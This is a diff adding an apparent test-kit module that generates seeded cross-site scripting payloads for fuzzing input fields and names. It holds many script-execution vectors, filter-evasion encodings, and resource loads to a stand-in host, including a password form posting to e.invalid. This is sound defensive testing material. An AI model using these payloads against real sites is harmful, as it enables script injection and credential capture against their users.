@@ -1,0 +1,143 @@
+/** Texts that want to be more than text, put together from building blocks. Whatever becomes an element has the attribute or the name `z`. */
+import { Dice } from '@pithead/testkit';
+
+const OPENERS = [
+  '',
+  '',
+  '">',
+  "'>",
+  '`>',
+  '</p>',
+  '</bdi>',
+  '</title>',
+  '</script>',
+  '</textarea>',
+  '-->',
+  ']]>',
+  '*/',
+  '\\">',
+  '"/>',
+  'x" ',
+];
+const CODES = [
+  'alert(1)',
+  'prompt`1`',
+  'confirm?.(1)',
+  "top['al'+'ert'](1)",
+  'self.print()',
+  'setTimeout(alert,0)',
+  '[1].map(alert)',
+  'alert&lpar;1&rpar;',
+];
+
+type Write = (code: string) => string;
+
+const RUNS: readonly Write[] = [
+  (code) => `<script z>${code}</script>`,
+  (code) => `<img z src=x onerror=${code}>`,
+  (code) => `<img/z/src='x'/onerror='${code}'>`,
+  (code) => `<svg z onload=${code}>`,
+  (code) => `<svg z><animate onbegin=${code} attributeName=x dur=1s>`,
+  (code) => `<svg z><script>${code}</script></svg>`,
+  (code) => `<math z><mtext><style></math><img z src onerror=${code}>`,
+  (code) => `<details z open ontoggle=${code}>x`,
+  (code) => `<input z autofocus onfocus=${code}>`,
+  (code) => `<select z autofocus onfocus=${code}>`,
+  (code) => `<video z><source z onerror=${code}></video>`,
+  (code) => `<body z onpageshow=${code}>`,
+  (code) => `<z onpointerover=${code} tabindex=1 autofocus onfocus=${code}>x`,
+  (code) => `<style z>@keyframes k{}</style><b z style=animation-name:k onanimationstart=${code}>x`,
+  (code) => `<iframe z srcdoc="<script>parent.${code}</script>"></iframe>`,
+  (code) => `<iframe z src="javascript:parent.${code}"></iframe>`,
+  (code) => `<object z data="javascript:${code}"></object>`,
+  (code) => `<embed z src="javascript:${code}">`,
+  (code) => `<a z href="javascript:${code}">x</a>`,
+  (code) => `<form z action="javascript:${code}"><button z>x</button></form>`,
+  (code) => `<meta z http-equiv=refresh content="0;url=javascript:${code}">`,
+  (code) => `<template z shadowrootmode=open><img z src onerror=${code}></template>`,
+  (code) => `<noscript z><p title="</noscript><img z src onerror=${code}>">`,
+];
+const LOADS: readonly Write[] = [
+  () => '<img z src=http://e.invalid/picture>',
+  () => '<link z rel=stylesheet href=//e.invalid/style>',
+  () => '<base z href=//e.invalid/>',
+  () => "<style z>@import 'http://e.invalid/style'</style>",
+  () => '<p z style="background:url(//e.invalid/picture)">x',
+  () => '<form z action=//e.invalid/><input z name=password>',
+];
+const WITHOUT_MARKUP: readonly Write[] = [
+  (code) => `javascript:${code}`,
+  (code) => `\u00a0JaVaScRiPt:${code}`,
+  (code) => `data:text/html,<script z>${code}</script>`,
+  () => 'http://e.invalid/picture.png',
+  (code) => `{{constructor.constructor('${code}')()}}`,
+  (code) => `\${${code}}`,
+  (code) => `<%= ${code} %>`,
+  (code) => `';${code}//`,
+  (code) => `\\u003cimg z src=x onerror=${code}\\u003e`,
+];
+
+type Shape = (text: string) => string;
+
+const SHAPES: readonly Shape[] = [
+  (text) => text,
+  (text) => text,
+  (text) => text.replaceAll(/<(\w+)/g, (tag) => tag.toUpperCase()),
+  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
+  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
+  (text) => encodeURIComponent(text),
+  (text) => text.replace('<', '<<'),
+  (text) => text.replace(/>$/, ''),
+  (text) => text.replace('<', '\uff1c').replace('>', '\uff1e'),
+  (text) => `<!--${text}-->${text}`,
+  (text) => `<b z title='${text}'>`,
+];
+
+const MOST_TRIES = 100;
+
+function distinct(many: number, draw: (i: number) => string): string[] {
+  const all = new Set<string>();
+  for (let i = 0; all.size < many && i < many * MOST_TRIES; i++) all.add(draw(i));
+  return [...all];
+}
+
+/** For fields that take some hundred letters. */
+export function payloads(seed: number, many: number): string[] {
+  const dice = new Dice(seed, 'xss');
+  return distinct(many, () => {
+    const kind = dice.pick([RUNS, RUNS, RUNS, LOADS, WITHOUT_MARKUP]);
+    return dice.pick(OPENERS) + dice.pick(SHAPES)(dice.pick(kind)(dice.pick(CODES)));
+  });
+}
+
+/** For names, which have 24 letters; the number keeps them apart. */
+const SHORT: readonly ((number: number) => string)[] = [
+  (n) => `<b z>${n}`,
+  (n) => `"><i z>${n}`,
+  (n) => `'><u z>${n}</u>`,
+  (n) => `</bdi><b z>${n}`,
+  (n) => `<svg z onload=alert(${n % 10})>`,
+  (n) => `<z onclick=alert(${n})>`,
+  (n) => `<img z src=//e.invalid>`.replace('z', `z${n % 10}`),
+  (n) => `<a z href=//e.invalid>${n}`.slice(0, 24),
+  (n) => `javascript:alert(${n})`,
+  (n) => `{{alert(${n})}}`,
+  (n) => `&lt;b z&gt;${n}`,
+  (n) => `<script z>${n}</script`.slice(0, 24),
+  (n) => `\uff1cb z\uff1e${n}`,
+  (n) => `<!--${n}--><b z>`,
+];
+
+export const names = (many: number): string[] =>
+  distinct(many, (i) => (SHORT[i % SHORT.length] as (typeof SHORT)[number])(Math.floor(i / SHORT.length)));
+
+/** Several in one field, as many as it takes. */
+export function joined(all: readonly string[], most: number): string[] {
+  const fields: string[] = [];
+  for (const each of all) {
+    const last = fields.at(-1);
+    if (last !== undefined && last.length + each.length < most) fields[fields.length - 1] = `${last} ${each}`;
+    else fields.push(each.slice(0, most));
+  }
+  return fields;
+}
